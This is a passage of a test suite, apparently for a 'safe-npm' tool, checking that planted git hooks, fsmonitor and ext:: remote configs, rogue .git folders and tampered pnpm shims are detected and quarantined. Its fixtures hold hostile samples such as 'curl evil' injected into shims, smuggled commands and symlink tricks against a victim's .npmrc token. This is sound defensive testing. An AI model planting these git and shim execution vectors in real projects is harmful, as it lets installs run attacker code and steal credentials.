    // PyPy, installed elsewhere: a `pre_commit` made at the top would be imported first, so a
    // new module there is moved aside.
    file("p/.git/hooks/pre-commit", hookText("/opt/pypy/bin/pypy3"));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(root, "p"),
      modules: true,
      // The module it runs, not there: a folder of that name counts, `__init__` or not.
      stems: ["pre_commit"],
      // Else a new folder only as a regular package: a build's namespace folders are not modules.
      packagesOnly: true,
    });
    // A standard library module (`-m json.tool`) is always installed: a folder named `json`
    // without an `__init__` (a build's output) does not stand in for it.
    file("p/.git/hooks/pre-commit", "#!/bin/sh\npython3 -m json.tool x.json\n");
    expect(
      rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).watch.filter((w) => w.modules),
    ).toEqual([
      { kind: "gitconfig", path: join(root, "p"), modules: true, stems: [], packagesOnly: true },
    ]);
    // A pixi (conda) environment in the project: read-only, as a virtualenv is.
    file("p/.pixi/envs/default/conda-meta/history");
    file("p/.pixi/envs/default/bin/python3.11");
    file("p/.git/hooks/pre-commit", hookText(join(root, "p/.pixi/envs/default/bin/python3.11")));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toContain(
      join(root, "p/.pixi/envs/default"),
    );
    // A virtualenv the hook names that is not there (`git clean -x`): one made inside is moved
    // aside.
    file("p/.git/hooks/pre-commit", hookText(join(root, "p/.venv2/bin/python3")));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(root, "p/.venv2"),
    });
    // A venv whose python is a link to a base python in the project: both read-only.
    file("p/env/bin/python3.11");
    mkdirSync(join(root, "p/env/lib"));
    file("p/.venv/pyvenv.cfg", `home = ${join(root, "p/env/bin")}\n`);
    link(join(root, "p/env/bin/python3.11"), "p/.venv/bin/python3.11");
    file("p/.git/hooks/pre-commit", hookText(join(root, "p/.venv/bin/python3.11")));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toEqual(
      expect.arrayContaining([join(root, "p/.venv"), join(root, "p/env")]),
    );
  });

  it("a config a fresh clone's set-up will include (`git config include.path`): its file and what it names", () => {
    const cases: [string, string][] = [
      ["git config include.path ../tools/git.cfg", "tools/git.cfg"],
      ["git config --local include.path '../.gitconfig' && husky", ".gitconfig"],
      ["git config includeIf.onbranch:main.path ../cfg/main.cfg", "cfg/main.cfg"],
      ['git config include.path "$(git rev-parse --show-toplevel)/.gc"', ".gc"],
    ];
    for (const [prepare, included] of cases) {
      rmSync(join(root, "p"), { recursive: true, force: true });
      file("p/.git/config", "");
      file("p/package.json", JSON.stringify({ scripts: { prepare } }));
      expect(
        rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).watch.map((w) => w.path),
        prepare,
      ).toContain(join(root, "p", included));
    }
    // One there already is read: the hooks folder it names is guarded now.
    file("p/.gc", "[core]\n\thooksPath = .gh\n");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toMatchObject({
      protect: [join(root, "p/.gc")],
      watch: expect.arrayContaining([{ kind: "hook", path: join(root, "p/.gh") }]),
    });
  });

  it("a virtualenv whose tool a hook runs by its path, python named or not", () => {
    file("p/.git/config", "");
    file("p/.venv/pyvenv.cfg", "home = /usr/bin\n");
    file("p/.venv/bin/black", "#!/usr/bin/env python3\n");
    file("p/.venv/bin/activate");
    for (const hook of [
      "#!/bin/sh\n.venv/bin/black --check .\n",
      "#!/bin/sh\n. .venv/bin/activate && black .\n",
      "#!/bin/sh\nexec ./.venv/bin/black\n",
      // husky's classic form: the venv found from the hook's own path.
      '#!/bin/sh\n. "$(dirname -- "$0")/../.venv/bin/activate"\nblack .\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
      '#!/bin/sh\n"$(dirname "${0}")/../.venv/bin/black"\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
      '#!/bin/sh\n. "${0%/*}/../.venv/bin/activate"\nblack .\n',
      '#!/bin/sh\n. "$(cd "$(dirname "$0")" && pwd)/../.venv/bin/activate"\nblack .\n',
      '#!/bin/sh\n. "$(dirname "$(realpath "$0")")/../.venv/bin/activate"\nblack .\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
      '#!/bin/bash\n. "$(dirname "${BASH_SOURCE[0]}")/../.venv/bin/activate"\nblack .\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
      '#!/bin/bash\nD=$(cd "$(dirname "${BASH_SOURCE[0]}")" &> /dev/null && pwd)\n. "$D/../.venv/bin/activate"\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
      '#!/bin/bash\nD="$(dirname "${BASH_SOURCE[0]:-$0}")"\n. "$D/../.venv/bin/activate"\n',
    ]) {
      file("p/.husky/pre-commit", hook);
      file("p/.git/config", "[core]\n\thooksPath = .husky\n");
      expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect, hook).toContain(
        join(root, "p/.venv"),
      );
    }
    // Its `bin` a link (`.venv/bin -> realbin`): by the path as written.
    rmSync(join(root, "p/.venv/bin"), { recursive: true });
    file("p/.venv/realbin/black");
    link("realbin", "p/.venv/bin");
    file("p/.husky/pre-commit", "#!/bin/sh\n.venv/bin/black\n");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toContain(
      join(root, "p/.venv"),
    );
    // A conda/pixi environment's tool: the environment.
    file("p/.pixi/envs/default/conda-meta/history");
    file("p/.pixi/envs/default/bin/black");
    file("p/.husky/pre-commit", "#!/bin/sh\n.pixi/envs/default/bin/black\n");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toContain(
      join(root, "p/.pixi/envs/default"),
    );
    // Missing (`git clean -x`): one made inside is moved aside.
    file("p/.husky/pre-commit", "#!/bin/sh\n.venv-dev/bin/black\n");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(root, "p/.venv-dev"),
    });
    // Activated in your shell: its `bin` on PATH, or VIRTUAL_ENV.
    file("p/.husky/pre-commit", "#!/bin/sh\nblack .\n");
    file("p/py/pyvenv.cfg", "home = /usr/bin\n");
    mkdirSync(join(root, "p/py/bin"));
    expect(
      rootGitPlaces(join(root, "p"), home(), {
        ...NO_SYSTEM,
        PATH: `${join(root, "p/py/bin")}:/usr/bin`,
      }).protect,
    ).toContain(join(root, "p/py"));
    expect(
      rootGitPlaces(join(root, "p"), home(), { ...NO_SYSTEM, VIRTUAL_ENV: join(root, "p/py") })
        .protect,
    ).toContain(join(root, "p/py"));
    // Spelled through a link to the project, or relative to the top.
    link(join(root, "p"), "plink");
    expect(
      rootGitPlaces(join(root, "p"), home(), { ...NO_SYSTEM, VIRTUAL_ENV: join(root, "plink/py") })
        .protect,
    ).toContain(join(root, "p/py"));
    expect(
      rootGitPlaces(join(root, "p"), home(), { ...NO_SYSTEM, PATH: "py/bin:/usr/bin" }).protect,
    ).toContain(join(root, "p/py"));
    // Set by the hook itself on a line of its own (`V=py`, then `"$V/bin/python"`).
    file("p/.husky/pre-commit", '#!/bin/sh\nV=py\n"$V/bin/python" -c pass\n');
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toContain(join(root, "p/py"));
    // A folder named bin that is no virtualenv: nothing.
    file("p/.husky/pre-commit", "#!/bin/sh\nvendor/bin/phpcs\n");
    file("p/vendor/bin/phpcs");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toEqual([
      join(root, "p/.husky"),
    ]);
  });

  it("protects the hooks directory the root config names (husky's .husky/_ means .husky)", () => {
    file("p/.git/config", "[core]\n\thooksPath = .husky/_\n");
    file("p/.husky/_/h");
    file("p/.husky/pre-commit");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [join(root, "p/.husky")],
      watch: [],
      // Its hooks, fingerprinted too: the folder's mount can be lost during the run.
      hookFiles: [{ kind: "hook", path: join(root, "p/.husky"), always: true }],
    });
  });

  it("watches a missing or linked hooks directory, and protects included config files", () => {
    file("p/.git/config", "[include]\n\tpath = ../shared.gitconfig\n\tpath = ../missing.cfg\n");
    file("p/shared.gitconfig", "[core]\n\thooksPath = hooks\n");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [join(root, "p/shared.gitconfig")],
      watch: [
        { kind: "gitconfig", path: join(root, "p/missing.cfg") },
        { kind: "hook", path: join(root, "p/hooks") },
      ],
      hookFiles: [],
    });
  });

  it("keeps read-only what the git dir's links lead to in the project: hooks folder, a hook, config", () => {
    file("p/.git/HEAD", "ref: refs/heads/main\n");
    file("p/githooks/post-merge");
    file("p/scripts/pre-commit");
    file("p/shared.gitconfig", "[core]\n\tbare = false\n");
    symlinkSync("../githooks", join(root, "p/.git/hooks"));
    symlinkSync("../shared.gitconfig", join(root, "p/.git/config"));
    const a = rootGitPlaces(join(root, "p"), home(), NO_SYSTEM);
    expect(a.protect.sort()).toEqual([join(root, "p/githooks"), join(root, "p/shared.gitconfig")]);
    rmSync(join(root, "p/.git/hooks"));
    mkdirSync(join(root, "p/.git/hooks"));
    symlinkSync("../../scripts/pre-commit", join(root, "p/.git/hooks/pre-commit"));
    symlinkSync("../../scripts/missing", join(root, "p/.git/hooks/pre-push"));
    const b = rootGitPlaces(join(root, "p"), home(), NO_SYSTEM);
    expect(b.protect).toContain(join(root, "p/scripts/pre-commit"));
    expect(b.watch).toContainEqual({ kind: "hook", path: join(root, "p/scripts/missing") });
  });

  it("watches each link on the way from a git dir's link (a chain), and keeps a linked info/attributes read-only", () => {
    file("p/.git/HEAD", "ref: refs/heads/main\n");
    file("p/tools/hook.sh");
    file("p/attrs");
    mkdirSync(join(root, "p/.git/hooks"));
    mkdirSync(join(root, "p/.git/info"));
    mkdirSync(join(root, "p/scripts"));
    symlinkSync("../../scripts/pre-commit", join(root, "p/.git/hooks/pre-commit"));
    symlinkSync("../tools/hook.sh", join(root, "p/scripts/pre-commit"));
    symlinkSync("../../attrs", join(root, "p/.git/info/attributes"));
    const places = rootGitPlaces(join(root, "p"), home(), NO_SYSTEM);
    expect(places.protect.sort()).toEqual([join(root, "p/attrs"), join(root, "p/tools/hook.sh")]);
    expect(places.watch).toContainEqual({
      kind: "gitconfig",
      path: join(root, "p/scripts/pre-commit"),
    });
  });

  it("protects the directory a linked hooks directory points to inside the project", () => {
    file("p/.git/config", "[core]\n\thooksPath = .githooks\n");
    file("p/tools/hooks/pre-commit");
    symlinkSync("tools/hooks", join(root, "p/.githooks"));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [join(root, "p/tools/hooks")],
      // tools made a link inside would lead the hooks elsewhere.
      watch: [
        { kind: "hook", path: join(root, "p/.githooks") },
        { kind: "gitconfig", path: join(root, "p/tools"), linkOnly: true },
      ],
      hookFiles: [{ kind: "hook", path: join(root, "p/tools/hooks"), always: true }],
    });
  });

  it("watches, not protects, a hooks directory inside node_modules (installs replace it)", () => {
    file("p/.git/config", "[core]\n\thooksPath = node_modules/hooks-pkg/hooks\n");
    file("p/node_modules/hooks-pkg/hooks/pre-commit");
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [],
      watch: [{ kind: "hook", path: join(root, "p/node_modules/hooks-pkg/hooks") }],
      hookFiles: [],
    });
  });

  it("reads a global hooksPath, the repository's overriding it; nothing without a repository", () => {
    file("home/.gitconfig", "[core]\n\thooksPath = .githooks\n");
    file("p/.git/config", "");
    mkdirSync(join(root, "p/.githooks"));
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM).protect).toEqual([
      join(root, "p/.githooks"),
    ]);
    file("p/.git/config", "[core]\n\thooksPath = /etc/hooks\n");
    // The user's relative one is still every nested repository's (the walk's).
    const user = [{ section: "core", subsection: null, key: "hookspath", value: ".githooks" }];
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [],
      watch: [],
      hookFiles: [],
      userHooksPath: ".githooks",
      // The user's config, whose programs nested repositories run too.
      userConfig: user,
    });
    rmSync(join(root, "p/.git"), { recursive: true });
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [],
      watch: [],
      hookFiles: [],
      userHooksPath: ".githooks",
      userConfig: user,
    });
  });

  it("returns the relative `-c core.hooksPath` of the user's aliases, for nested repositories", () => {
    file(
      "home/.gitconfig",
      "[alias]\n\tci = -c core.hooksPath=.gh commit\n\tcj = !git -c core.hooksPath=/abs commit\n",
    );
    expect(rootGitPlaces(join(root, "p"), home(), NO_SYSTEM)).toEqual({
      protect: [],
      watch: [],
      hookFiles: [],
      userAliasHooks: [".gh"],
      userConfig: expect.arrayContaining([
        { section: "core", subsection: null, key: "hookspath", value: ".gh" },
      ]),
    });
  });

  it("every core.hooksPath of the user's config counts: an include's place and includeIf's conditions pick the one git takes", () => {
    file(
      "home/.gitconfig",
      '[core]\n\thooksPath = .githooks\n[includeIf "gitdir:~/work/"]\n\tpath = ~/.gitconfig-work\n',
    );
    file("home/.gitconfig-work", "[core]\n\thooksPath = .work-hooks\n");
    mkdirSync(join(root, "p", ".git"), { recursive: true });
    mkdirSync(join(root, "p", ".githooks"));
    const places = rootGitPlaces(join(root, "p"), home(), NO_SYSTEM);
    // The project's repository: both folders are guarded (the existing one read-only).
    expect(places.protect).toContain(join(root, "p", ".githooks"));
    expect(places.watch).toContainEqual({ kind: "hook", path: join(root, "p", ".work-hooks") });
    // Nested repositories: the last one when they set none, the other always.
    expect(places.userHooksPath).toBe(".work-hooks");
    expect(places.userAliasHooks).toEqual([".githooks"]);
  });
});

describe("rootGitPlaces: the ways a named program is reached", () => {
  const home = (): string => join(root, "home");
  const p = (): string => join(root, "p");
  /** The places, and the plant `during` made inside moved aside by a check against them. */
  const planted = (during: () => void): string[] => {
    const places = rootGitPlaces(p(), home(), NO_SYSTEM);
    return around(during, { skip: [".git", "p/.git"], watch: places.watch }).moved;
  };

  it("a relative hooksPath is read from the git dir too, where push hooks run", () => {
    file("p/.git/config", "[core]\n\thooksPath = ../githooks\n");
    expect(rootGitPlaces(p(), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "hook",
      path: join(p(), "githooks"),
    });
  });

  it("a core.hooksPath an alias gives by -c is guarded as the config's own", () => {
    file(
      "p/.git/config",
      "[alias]\n\tci = -c core.hooksPath=.myhooks commit\n\tcj = !git -c core.hooksPath=.other commit\n",
    );
    const watch = rootGitPlaces(p(), home(), NO_SYSTEM).watch;
    expect(watch).toContainEqual({ kind: "hook", path: join(p(), ".myhooks") });
    expect(watch).toContainEqual({ kind: "hook", path: join(p(), ".other") });
  });

  it("a branch's remote that is a URL, rewritten by another file's url.<base>.insteadOf", () => {
    file("home/.gitconfig", '[url "ext::sh tools/x"]\n\tinsteadOf = gh:\n');
    file("p/.git/config", '[branch "master"]\n\tremote = gh:.sh\n');
    expect(rootGitPlaces(p(), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(p(), "tools/x.sh"),
    });
  });

  it("uploadpack.packObjectsHook and core.alternateRefsCommand run in the git dir: `../` is the top", () => {
    file(
      "p/.git/config",
      "[uploadpack]\n\tpackObjectsHook = sh ../tools/pack.sh\n[core]\n\talternateRefsCommand = ../tools/refs.sh\n",
    );
    const watch = rootGitPlaces(p(), home(), NO_SYSTEM).watch;
    expect(watch).toContainEqual({ kind: "gitconfig", path: join(p(), "tools/pack.sh") });
    expect(watch).toContainEqual({ kind: "gitconfig", path: join(p(), "tools/refs.sh") });
  });

  it("instaweb.httpd in an absolute instaweb.gitwebdir of the project", () => {
    file("home/.gitconfig", `[instaweb]\n\tgitwebdir = ${p()}/web\n`);
    file("p/.git/config", "[instaweb]\n\thttpd = lighttpd\n");
    expect(rootGitPlaces(p(), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(p(), "web/lighttpd"),
    });
  });

  it("a hooksPath through a folder `..` steps out of: that folder made a link is moved aside", () => {
    file("p/.git/config", "[core]\n\thooksPath = sub/../.githooks\n");
    mkdirSync(join(root, "p/sub"));
    const moved = planted(() => {
      rmSync(join(root, "p/sub"), { recursive: true });
      file("p/evil/d/keep");
      file("p/evil/.githooks/pre-commit", "evil");
      symlinkSync("evil/d", join(root, "p/sub"));
    });
    expect(moved).toContain("p/sub");
  });

  it("a missing hooksPath whose folder on the way is made a link inside: the link is moved aside", () => {
    file("p/.git/config", "[core]\n\thooksPath = tools/hooks\n");
    const { moved, findings } = around(
      () => {
        file("p/evil/hooks/pre-commit", "evil");
        symlinkSync("evil", join(root, "p/tools"));
      },
      { skip: ["p/.git"], watch: rootGitPlaces(p(), home(), NO_SYSTEM).watch },
    );
    expect(moved).toContain("p/tools");
    expect(findings.filter((f) => f.movedTo === null)).toEqual([]);
  });

  it("a url rewrite in one config file makes an ext:: remote of another's", () => {
    file("home/.gitconfig", '[url "ext::"]\n\tinsteadOf = run:\n');
    file("p/.git/config", '[remote "origin"]\n\turl = run:tools/x.sh\n');
    expect(rootGitPlaces(p(), home(), NO_SYSTEM).watch).toContainEqual({
      kind: "gitconfig",
      path: join(p(), "tools/x.sh"),
    });
  });

  it("a path that leaves the top and comes back in by its name: a file made there is moved aside", () => {
    file("p/.git/config", `[core]\n\tfsmonitor = ../p/tools/x.sh\n`);
    mkdirSync(join(root, "p/tools"));
    expect(planted(() => file("p/tools/x.sh", "evil"))).toEqual(["p/tools/x.sh"]);
  });

  it("a folder a `..` steps out of, made a link inside, is moved aside", () => {
    file("p/.git/config", "[core]\n\tfsmonitor = sub/../tools/x.sh\n");
    mkdirSync(join(root, "p/sub"));
    mkdirSync(join(root, "p/tools"));
    const moved = planted(() => {
      rmSync(join(root, "p/sub"), { recursive: true });
      file("p/evil/d/keep");
      file("p/evil/tools/x.sh", "evil");
      symlinkSync("evil/d", join(root, "p/sub"));
    });
    expect(moved).toContain("p/sub");
  });

  it("a link made inside on the way to a named path is moved aside", () => {
    file("p/.git/config", "[core]\n\tfsmonitor = tools/x.sh\n");
    const moved = planted(() => {
      file("p/node_modules/x/x.sh", "evil");
      symlinkSync("node_modules/x", join(root, "p/tools"));
    });
    expect(moved).toEqual(["p/tools"]);
  });

  it("through a committed link in the project: the file where it leads is kept read-only, or moved aside when made inside", () => {
    file("p/.git/config", "[core]\n\tfsmonitor = tools/x.sh\n");
    mkdirSync(join(root, "p/lib"));
    symlinkSync("lib", join(root, "p/tools"));
    const places = rootGitPlaces(p(), home(), NO_SYSTEM);
    // The path through the link itself cannot be moved aside: only where it leads is watched.
    expect(places.watch).toContainEqual({ kind: "gitconfig", path: join(p(), "lib/x.sh") });
    expect(places.watch).not.toContainEqual({ kind: "gitconfig", path: join(p(), "tools/x.sh") });
    const { moved, findings } = around(() => file("p/lib/x.sh", "evil"), {
      skip: ["p/.git"],
      watch: places.watch,
    });
    expect(moved).toEqual(["p/lib/x.sh"]);
    expect(findings.filter((f) => f.movedTo === null)).toEqual([]);
    file("p/lib/x.sh", "own");
    expect(rootGitPlaces(p(), home(), NO_SYSTEM).protect).toContain(join(p(), "lib/x.sh"));
  });
});

describe("snapshot and check: packages that are links", () => {
  it("looks for a repository from a linked package's real folder up to the root", () => {
    file("node_modules/a/package.json", "{}");
    file("node_modules/b/dist/index.js", "");
    file("node_modules/.pnpm/c@1.0.0/node_modules/c/package.json", "{}");
    link(".pnpm/c@1.0.0/node_modules/c", "node_modules/c");
    link("../../../outside", "node_modules/@s/out");
    const { moved } = around(() => {
      // `cd node_modules/a && git status` finds the repository above its real folder.
      rmSync(join(root, "node_modules/a"), { recursive: true });
      file("node_modules/b/dist/a/package.json", "{}");
      file("node_modules/b/dist/.git/HEAD", "ref: refs/heads/main\n");
      file("node_modules/b/dist/.git/config", "[core]\n\tfsmonitor = evil\n");
      mkdirSync(join(root, "node_modules/b/dist/.git/objects"));
      mkdirSync(join(root, "node_modules/b/dist/.git/refs"));
      link("b/dist/a", "node_modules/a");
      // pnpm's layout: a repository at the store entry above the package.
      file("node_modules/.pnpm/c@1.0.0/.git", "gitdir: /tmp/evil\n");
    });
    expect(moved).toEqual(["node_modules/.pnpm/c@1.0.0/.git", "node_modules/b/dist/.git"]);
  });
  it("follows where a link really lands, also when it leaves the project by its spelling", () => {
    file("node_modules/b/dist/a/package.json", "{}");
    const { moved } = around(() => {
      bare("node_modules/b/dist", "[core]\n\tfsmonitor = evil\n");
      link(`/proc/self/root${join(root, "node_modules/b/dist/a")}`, "node_modules/a");
    });
    expect(moved).toEqual(["node_modules/b/dist/HEAD"]);
  });
});

describe("snapshot and check: a read-only hooks folder", () => {
  it("finds a hook added to it, though the folder's own identity is unchanged (a lost mount)", () => {
    file(".husky/pre-push", "#!/bin/sh\n");
    const readonly: Watch = { kind: "readonly", path: join(root, ".husky"), always: true };
    const hooks: Watch = { kind: "hook", path: join(root, ".husky") };
    const plant = (): void => file(".husky/pre-commit", "#!/bin/sh\nevil\n");
    // The folder alone, as before: its dev/ino is all there is to compare.
    expect(around(plant, { watch: [readonly] }).moved).toEqual([]);
    rmSync(join(root, ".husky/pre-commit"));
    expect(around(plant, { watch: [readonly, hooks] }).moved).toEqual([".husky/pre-commit"]);
  });
});

describe("quarantine", () => {
  it("renames without overwriting an earlier quarantine", () => {
    file("sub/.git/config");
    file("sub/.git.quarantined-by-safe-npm/config");
    const moved = quarantine(join(root, "sub/.git"));
    expect(moved).toBe(join(root, "sub/.git.quarantined-by-safe-npm-1"));
    expect(existsSync(join(moved, "config"))).toBe(true);
    expect(lstatSync(join(root, "sub")).isDirectory()).toBe(true);
    expect(existsSync(join(root, "sub/.git"))).toBe(false);
  });

  it("renames within the project only: a link on the way is never followed", () => {
    // A run still going in the project swapped a link in for a folder on the way.
    const victim = mkdtempSync(join(tmpdir(), "safe-npm-victim-"));
    try {
      writeFileSync(join(victim, ".npmrc"), "//registry/:_authToken=mine\n");
      mkdirSync(join(root, "docs"));
      symlinkSync(victim, join(root, "docs", "pkg"));
      const planted = join(root, "docs", "pkg", ".npmrc");
      expect(() => quarantine(planted, root)).toThrow(/ELOOP|ENOTDIR/);
      expect(existsSync(join(victim, ".npmrc"))).toBe(true);
      // Control: by path, the user's own file elsewhere is what gets renamed.
      expect(quarantine(planted)).toBe(`${planted}.quarantined-by-safe-npm`);
      expect(existsSync(join(victim, ".npmrc"))).toBe(false);
    } finally {
      rmSync(victim, { recursive: true, force: true });
    }
  });

  it("through the project's folders, renames the entry in the folder it reached", () => {
    file("a/b/.git/config");
    file("a/b/.git.quarantined-by-safe-npm");
    const moved = quarantine(join(root, "a/b/.git"), root);
    expect(moved).toBe(join(root, "a/b/.git.quarantined-by-safe-npm-1"));
    expect(existsSync(join(moved, "config"))).toBe(true);
    expect(() => quarantine(join(tmpdir(), "elsewhere"), root)).toThrow(/not inside/);
  });
});

describe("snapshot and check: a pnpm-style local safe-npm", () => {
  const pkg = (version: string): string => JSON.stringify({ name: "safe-npm", version });
  const store = "node_modules/.pnpm/safe-npm@1.0.0/node_modules/safe-npm";

  it("moves a .bin/safe-npm into .pnpm/safe-npm@*/ when node_modules/safe-npm is not there", () => {
    const d = "node_modules/.pnpm/safe-npm@1/node_modules/safe-npm";
    const { moved } = around(() => {
      file(`${d}/x`, "#!/bin/sh\necho PWNED\n");
      link("../.pnpm/safe-npm@1/node_modules/safe-npm/x", "node_modules/.bin/safe-npm");
    });
    expect(moved).toEqual(["node_modules/.bin/safe-npm"]);
  });

  it("fingerprints the real directory a linked node_modules/safe-npm leads to", () => {
    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
    file(`${store}/package.json`, pkg("1.0.0"));
    file(`${store}/dist/cli.cjs`, "cli");
    link(".pnpm/safe-npm@1.0.0/node_modules/safe-npm", "node_modules/safe-npm");
    link("../safe-npm/dist/cli.cjs", "node_modules/.bin/safe-npm");
    expect(pointsIntoSelf(join(root, "node_modules/.bin/safe-npm"), root)).toBe(true);
    // Changed through the store path, even by an install: moved (the version did not change).
    const { moved } = around(() => file(`${store}/dist/cli.cjs`, "evil"), { install: true });
    expect(moved).toEqual(["node_modules/safe-npm"]);
    // The bin into it is no longer accepted.
    rmSync(join(root, "node_modules/.bin/safe-npm"));
    const after = around(() => link("../safe-npm/dist/cli.cjs", "node_modules/.bin/safe-npm"));
    expect(after.moved).toEqual(["node_modules/.bin/safe-npm"]);
  });

  it("accepts a bin only into the same real directory, and no link out of node_modules", () => {
    file(`${store}/dist/cli.cjs`, "cli");
    file("node_modules/.pnpm/safe-npm@9.9.9/node_modules/safe-npm/dist/cli.cjs", "other");
    file("outside/dist/cli.cjs", "evil");
    link(".pnpm/safe-npm@1.0.0/node_modules/safe-npm", "node_modules/safe-npm");
    const bin = join(root, "node_modules/.bin/safe-npm");
    link(
      "../.pnpm/safe-npm@9.9.9/node_modules/safe-npm/dist/cli.cjs",
      "node_modules/.bin/safe-npm",
    );
    expect(pointsIntoSelf(bin, root)).toBe(false);
    rmSync(bin);
    // pnpm's own shims exec'ing the store path of the real directory: accepted.
    for (const shim of PNPM_SHIMS) {
      file("node_modules/.bin/safe-npm", shim);
      expect(pointsIntoSelf(bin, root)).toBe(true);
      // Into another version's directory, with a line of its own, or a header pnpm never wrote:
      // not one.
      file("node_modules/.bin/safe-npm", shim.replaceAll("safe-npm@1.0.0", "safe-npm@9.9.9"));
      expect(pointsIntoSelf(bin, root)).toBe(false);
      file("node_modules/.bin/safe-npm", `${shim}curl evil\n`);
      expect(pointsIntoSelf(bin, root)).toBe(false);
      file("node_modules/.bin/safe-npm", shim.replace("basedir=", "curl evil; basedir="));
      expect(pointsIntoSelf(bin, root)).toBe(false);
      file("node_modules/.bin/safe-npm", shim.replace(/^fi$/m, "fi\ncurl evil"));
      expect(pointsIntoSelf(bin, root)).toBe(false);
      // Another file of the package, run by sh: its README's backticks are commands.
      file(`${store}/README.md`, "Run `npm install` first.\n");
      file("node_modules/.bin/safe-npm", shim.replaceAll("dist/cli.cjs", "README.md"));
      expect(pointsIntoSelf(bin, root)).toBe(false);
      // sh takes a no-break space for part of a word: a command `\u00a0export` from .bin.
      file("node_modules/.bin/safe-npm", shim.replace(/^fi$/m, 'fi\n\u00a0export NODE_PATH="/x"'));
      expect(pointsIntoSelf(bin, root)).toBe(false);
      // `..` after a link: the kernel applies it where the link leads, not by spelling.
      file("node_modules/.pnpm/evil/a/.keep", "");
      file("node_modules/.pnpm/evil/safe-npm/dist/cli.cjs", "evil");
      link(".pnpm/evil/a", "node_modules/x");
      const dotted = shim.replaceAll(
        "../.pnpm/safe-npm@1.0.0/node_modules/safe-npm",
        "../x/../safe-npm",
      );
      expect(dotted).not.toBe(shim);
      file("node_modules/.bin/safe-npm", dotted);
      expect(pointsIntoSelf(bin, root)).toBe(false);
      rmSync(join(root, "node_modules/x"));
    }
    rmSync(bin);
    link(".pnpm/evil/a", "node_modules/x");
    link("../x/../safe-npm/dist/cli.cjs", "node_modules/.bin/safe-npm");
    expect(pointsIntoSelf(bin, root)).toBe(false);
    rmSync(bin);
    rmSync(join(root, "node_modules/x"));
    // Without pnpm's header, an exec line alone is no shim.
    file(
      "node_modules/.bin/safe-npm",
      `#!/bin/sh\nexec node "$basedir/../.pnpm/safe-npm@1.0.0/node_modules/safe-npm/dist/cli.cjs" "$@"\n`,
    );
    expect(pointsIntoSelf(bin, root)).toBe(false);
    rmSync(bin);
    // node_modules/safe-npm leading out of node_modules: never resolved, so nothing is accepted.
    rmSync(join(root, "node_modules/safe-npm"));
    link("../outside", "node_modules/safe-npm");
    link("../safe-npm/dist/cli.cjs", "node_modules/.bin/safe-npm");
    expect(pointsIntoSelf(bin, root)).toBe(false);
  });
});

describe("snapshot and check: bins shadowing host commands", () => {
  it("moves a new .bin entry named like a host command or node (root and workspaces), nothing else", () => {
    file("packages/a/package.json", "{}");
    file("node_modules/.bin/tsc", "#!/bin/sh\n");
    const { moved } = around(() => {
      file("node_modules/evil/sh.js", "evil");
      link("../evil/sh.js", "node_modules/.bin/sh");
      file("node_modules/.bin/bwrap", "#!/bin/sh\nevil\n");
      file("packages/a/node_modules/.bin/env", "#!/bin/sh\nevil\n");
      file("node_modules/.bin/tsc", "#!/bin/sh\nchanged, but shadows nothing\n");
      link("../evil/sh.js", "node_modules/.bin/eslint");
    });
    expect(moved).toEqual([
      "node_modules/.bin/bwrap",
      "node_modules/.bin/sh",
      "packages/a/node_modules/.bin/env",
    ]);
  });

  it("moves what pnpm's shims run from .bin instead of the interpreter: a folder, a top-level name, an .exe twin", () => {
    file("node_modules/.bin/tsc", "#!/bin/sh\n");
    file("node_modules/.bin/opt/keep", "there before, unchanged");
    const commands = new Set([...systemCommands([]), "sh", "env"]);
    const { moved } = around(
      () => {
        // `#!/bin/sh` → `if [ -x "$basedir//bin/sh" ]; then exec "$basedir//bin/sh" …`
        file("node_modules/.bin/bin/sh", "#!/bin/sh\nevil\n");
        link("/tmp/elsewhere", "node_modules/.bin/usr");
        file("node_modules/.bin/sh.exe", "evil");
        file("node_modules/.bin/node.exe", "evil");
        file("node_modules/.bin/opt/local/bin/node", "evil");
        file("node_modules/.bin/eslint.exe", "shadows nothing");
      },
      { commands },
    );
    expect(moved).toEqual([
      "node_modules/.bin/bin",
      "node_modules/.bin/node.exe",
      "node_modules/.bin/opt/local",
      "node_modules/.bin/sh.exe",
      "node_modules/.bin/usr",
    ]);
  });

  it("moves one in a package's own .bin and in pnpm's store levels (a bare lifecycle script's PATH)", () => {
    file("node_modules/esb/package.json", "{}");
